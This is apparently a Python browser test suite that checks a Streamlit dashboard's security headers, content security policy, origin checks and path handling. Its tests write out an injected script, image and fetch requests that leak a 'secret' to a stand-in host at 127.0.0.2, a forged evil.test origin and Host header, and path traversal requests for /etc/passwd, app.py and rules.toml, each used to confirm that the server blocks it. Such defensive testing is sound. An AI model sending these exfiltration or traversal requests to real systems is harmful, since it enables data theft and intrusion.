"""The headers forbid what the dashboard does not need, and nothing that it does."""

from __future__ import annotations

import json
import socket
from collections.abc import Iterator
from urllib.parse import urlsplit
from urllib.request import urlopen

import pytest
from playwright.sync_api import Browser, Page, Response, expect
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect
from websockets.typing import Origin

from tests.browser.driver import Server, close_page, new_page
from tests.browser.steps import forgive_the_search_for_the_server, settle

pytestmark = pytest.mark.browser
PAGES = (
    "ringkasan",
    "peta",
    "tindak_lanjut",
    "jangkauan",
    "hambatan",
    "tren",
    "dampak",
    "inovasi",
    "keluarga?keluarga=KK-2013-0001",
    "kualitas",
    "data",
    "keamanan",
    "peta?peran=publik",
    "keluarga?peran=peninjau",
)
LISTEN = """
window.perutRefused = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.perutRefused.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}`));
"""
POPOVERS = 4


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    page = new_page(browser)
    page.add_init_script(LISTEN)
    yield page
    close_page(page)


def refused(page: Page) -> list[str]:
    return list(page.evaluate("window.perutRefused"))


@pytest.mark.parametrize("address", PAGES)
def test_no_page_needs_what_the_policy_forbids(server: Server, page: Page, address: str) -> None:
    answers: list[Response] = []

    def hear(answer: Response) -> None:  # a bound method of a list is more than playwright can call
        answers.append(answer)

    page.on("response", hear)
    page.goto(f"{server.url}/{address}")
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    settle(page)
    popovers = page.get_by_test_id("stPopover").get_by_role("button")
    for number in range(min(POPOVERS, popovers.count())):
        if popovers.nth(number).is_visible():
            popovers.nth(number).click()
            settle(page)
            page.keyboard.press("Escape")
    for number in range(page.get_by_role("tab").count()):
        page.get_by_role("tab").nth(number).click()
        settle(page)
    buttons = page.get_by_test_id("stDownloadButton").get_by_role("button")
    for number in range(buttons.count()):
        if buttons.nth(number).is_visible() and buttons.nth(number).is_enabled():
            with page.expect_download():
                buttons.nth(number).click()
            break
    assert refused(page) == []
    own = [
        answer for answer in answers if urlsplit(answer.url).netloc == urlsplit(server.url).netloc
    ]
    assert len(own) > 10
    for answer in own:
        headers = answer.headers
        assert headers.get("x-content-type-options") == "nosniff", answer.url
        assert "frame-ancestors 'none'" in headers.get("content-security-policy", ""), answer.url
        assert headers.get("referrer-policy") == "no-referrer", answer.url
        assert "server" not in headers, answer.url
        assert headers.get("access-control-allow-origin") != "*", answer.url
        if "/static/" not in answer.url:
            assert headers.get("cache-control") == "no-store", answer.url
    forgive_the_search_for_the_server(page)


def test_the_policy_does_forbid(server: Server, browser: Browser) -> None:
    """Else the test above would prove nothing."""
    page = new_page(browser)
    page.add_init_script(LISTEN)
    page.goto(server.url)
    settle(page)
    page.evaluate(
        """async () => {
          const script = document.createElement("script");
          script.textContent = "window.perutInjected = true";
          document.body.append(script);
          new Image().src = "http://127.0.0.2:9/leak.png?secret";
          await fetch("http://127.0.0.2:9/leak").catch(() => null);
          const frame = document.createElement("iframe");
          frame.src = "/";
          document.body.append(frame);
          await new Promise((done) => setTimeout(done, 300));
        }"""
    )
    assert page.evaluate("window.perutInjected") is None
    kinds = {line.split()[0] for line in refused(page)}
    assert {"script-src-elem", "img-src", "connect-src", "frame-src"} <= kinds
    page.context.close()


def test_tables_leave_by_our_own_buttons_only(server: Server, page: Page) -> None:
    """Streamlit's own CSV is neither neutralised nor logged."""
    page.goto(f"{server.url}/tindak_lanjut")
    settle(page)
    table = page.get_by_test_id("stDataFrame").first
    table.scroll_into_view_if_needed()
    table.hover()
    toolbar = page.get_by_test_id("stElementToolbar").first
    expect(toolbar).to_be_visible()
    names = {button.get_attribute("aria-label") or "" for button in toolbar.locator("button").all()}
    assert names
    assert not [name for name in names if "CSV" in name or "Unduh" in name]
    forgive_the_search_for_the_server(page)


def test_a_page_of_another_site_does_not_reach_the_stream(server: Server) -> None:
    """Nor does the question make the server look for its own address outside."""
    url = f"{server.url.replace('http', 'ws')}/_stcore/stream"
    for origin in ("http://evil.test", "http://localhost:1", "null"):
        with pytest.raises(InvalidStatus) as answer, connect(url, origin=Origin(origin)):
            pass
        assert answer.value.response.status_code == 403
    with connect(url, origin=Origin(server.url)):
        pass


def test_no_other_site_is_named(server: Server) -> None:
    """Streamlit would take messages from the pages that frame it in its own cloud."""
    with urlopen(f"{server.url}/_stcore/host-config", timeout=10) as answer:
        told = json.loads(answer.read())
    assert told["allowedOrigins"] == []
    assert "http" not in json.dumps(told)


def raw(server: Server, head: str) -> str:
    """What the server answers to a request that no client would send."""
    port = urlsplit(server.url).port or 0
    with socket.create_connection(("127.0.0.1", port), timeout=10) as line:
        line.sendall(head.replace("\n", "\r\n").encode())
        return line.recv(4096).decode("latin-1")


def test_rebound_names_and_odd_paths_get_nothing(server: Server) -> None:
    assert " 421 " in raw(server, "GET / HTTP/1.1\nHost: evil.test\nConnection: close\n\n")
    head = "HTTP/1.1\nHost: 127.0.0.1\nConnection: close\n\n"
    for path in (
        "/app/static/../app.py",
        "/app/static/..%2fdata%2frules.toml",
        "/static/../../../../etc/passwd",
        "/media/../data/rules.toml",
        "/_stcore/metrics",
        "/_stcore/agent/openapi.json",
    ):
        answer = raw(server, f"GET {path} {head}")
        assert answer.split()[1] in ("400", "404"), (path, answer[:60])
